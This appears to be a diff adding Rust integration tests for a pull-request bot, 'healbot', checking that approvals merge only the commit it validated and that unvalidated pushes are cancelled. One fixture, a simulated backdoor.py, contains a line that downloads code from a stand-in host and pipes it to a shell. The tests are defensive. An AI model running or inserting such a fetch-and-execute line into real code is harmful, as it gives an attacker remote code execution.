@@ -713,3 +713,205 @@ mod through_the_app {
         t.fake.assert_clean();
     }
 }
+
+// ---- §3: an approval merges only the commit healbot validated ----
+
+mod approvals {
+    use crate::support::app::{
+        comment, pull_request, review, App, AppOptions, FULL_ROLLOUT, REPO, SERVICE_DIR,
+    };
+    use healbot::operation::OpState;
+
+    /// Pushes `backdoor.py` to the operation's fix branch as a person with write access would.
+    async fn push_backdoor(t: &App) -> String {
+        let branch = "healbot/".to_string()
+            + &t.app.orchestrator().journal.operations().await[0].correlation_id;
+        t.fake.push(
+            REPO,
+            &branch,
+            &[("backdoor.py", "import os\nos.system('curl evil | sh')\n")],
+            "tidy up\n",
+        )
+    }
+
+    fn backdoor_on_main(t: &App) -> bool {
+        let main = t.fake.branch(REPO, "main").unwrap();
+        t.fake.file(REPO, &main, "backdoor.py").is_some()
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn a_push_then_an_approval_of_it_merges_nothing() {
+        let mut t = App::start().await;
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let validated = t.head(1).await;
+        let pushed = push_backdoor(&t).await;
+        // The approval arrives before GitHub's `synchronize`: the head is checked live.
+        t.deliver(
+            "pull_request_review",
+            "r-pushed",
+            &review(1, "alice", "approved", &pushed, 9001),
+        )
+        .await;
+        t.fake
+            .expect_comments(&["is not the commit healbot validated"]);
+        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
+        // Then the push is reported: the operation is cancelled, the lock freed.
+        t.deliver(
+            "pull_request",
+            "sync-1",
+            &pull_request("synchronize", 1, "alice", &pushed, None),
+        )
+        .await;
+        t.fake.expect_comments(&["no longer acts on this PR"]);
+        assert_eq!(t.state_of_only_operation().await, OpState::Cancelled);
+        // An approval of the validated commit, given before, does not count now either.
+        t.deliver(
+            "pull_request_review",
+            "r-old",
+            &review(1, "alice", "approved", &validated, 9002),
+        )
+        .await;
+        t.fake.expect_comments(&["nothing to approve"]);
+        let body = comment(&t.fake, 1, "alice", "/heal approve");
+        t.deliver("issue_comment", "c-approve", &body).await;
+        t.fake.expect_comments(&["nothing to approve"]);
+        assert!(!backdoor_on_main(&t));
+        assert!(
+            t.fake.merge_calls().is_empty(),
+            "{:?}",
+            t.fake.merge_calls()
+        );
+        t.fake.assert_clean();
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn the_merge_call_names_the_validated_sha() {
+        let mut t = App::start().await;
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let validated = t.head(1).await;
+        t.production.heal();
+        t.approve(1, 9101).await;
+        t.expect_full_rollout();
+        let calls = t.fake.merge_calls();
+        assert_eq!(calls.len(), 1, "{calls:?}");
+        assert_eq!(calls[0]["sha"], serde_json::json!(validated));
+        t.fake.assert_clean();
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn a_person_merging_an_unvalidated_head_is_not_deployed() {
+        let mut t = App::start().await;
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let pushed = push_backdoor(&t).await;
+        // Merged on GitHub by hand, with the push in it: healbot takes none of it further.
+        let merge = t.fake.push(REPO, "main", &[("merged.txt", "x")], "merge\n");
+        t.deliver(
+            "pull_request",
+            "closed-unvalidated",
+            &pull_request("closed", 1, "alice", &pushed, Some(&merge)),
+        )
+        .await;
+        assert_eq!(t.state_of_only_operation().await, OpState::Cancelled);
+        let actions = t.audit_actions().await;
+        assert!(actions.contains(&("alice".into(), "pr.merged_unvalidated".into())));
+        t.fake.assert_clean();
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn with_revalidation_the_pusher_cannot_approve_and_someone_else_can() {
+        let config = std::fs::read_to_string(format!("{SERVICE_DIR}/.github/healbot.yml"))
+            .unwrap()
+            .replace("allow: []", "allow: []\n  on_push: revalidate");
+        let mut t = App::start_with(AppOptions {
+            repo_config: Some(config),
+            ..AppOptions::default()
+        })
+        .await;
+        t.fake.set_permission(REPO, "bob", "write");
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let validated = t.head(1).await;
+        // A harmless push that keeps the check green.
+        let branch = "healbot/".to_string()
+            + &t.app.orchestrator().journal.operations().await[0].correlation_id;
+        let pushed = t
+            .fake
+            .push(REPO, &branch, &[("NOTES.md", "reviewed\n")], "notes\n");
+        t.deliver(
+            "pull_request",
+            "sync-ok",
+            &pull_request("synchronize", 1, "alice", &pushed, None),
+        )
+        .await;
+        t.fake
+            .expect_comments(&["ran the check on it again and it passed"]);
+        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
+        // The pusher's own approval does not count.
+        t.deliver(
+            "pull_request_review",
+            "r-alice",
+            &review(1, "alice", "approved", &pushed, 9201),
+        )
+        .await;
+        t.fake.expect_comments(&["you pushed to this PR's branch"]);
+        // An approval of the commit before the push does not count.
+        t.deliver(
+            "pull_request_review",
+            "r-bob-old",
+            &review(1, "bob", "approved", &validated, 9202),
+        )
+        .await;
+        t.fake.expect_comments(&["approve again"]);
+        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
+        // Someone else approving the re-validated head merges exactly that commit.
+        t.production.heal();
+        t.deliver(
+            "pull_request_review",
+            "r-bob",
+            &review(1, "bob", "approved", &pushed, 9203),
+        )
+        .await;
+        t.fake.expect_comments(&FULL_ROLLOUT);
+        assert_eq!(t.fake.merge_calls()[0]["sha"], serde_json::json!(pushed));
+        assert_eq!(t.state_of_only_operation().await, OpState::Completed);
+        t.fake.assert_clean();
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn with_revalidation_a_push_that_fails_the_check_cancels() {
+        let config = std::fs::read_to_string(format!("{SERVICE_DIR}/.github/healbot.yml"))
+            .unwrap()
+            .replace("allow: []", "allow: []\n  on_push: revalidate");
+        let mut t = App::start_with(AppOptions {
+            repo_config: Some(config),
+            ..AppOptions::default()
+        })
+        .await;
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let branch = "healbot/".to_string()
+            + &t.app.orchestrator().journal.operations().await[0].correlation_id;
+        let pushed = t.fake.push(
+            REPO,
+            &branch,
+            &[(
+                "tests/test_zz_broken.py",
+                "import unittest\n\nclass Broken(unittest.TestCase):\n    def test_x(self):\n        self.fail('broken')\n",
+            )],
+            "break\n",
+        );
+        t.deliver(
+            "pull_request",
+            "sync-bad",
+            &pull_request("synchronize", 1, "mallory", &pushed, None),
+        )
+        .await;
+        t.fake
+            .expect_comments(&["ran the check on it again and it failed"]);
+        assert_eq!(t.state_of_only_operation().await, OpState::Cancelled);
+        t.fake.assert_clean();
+    }
+}
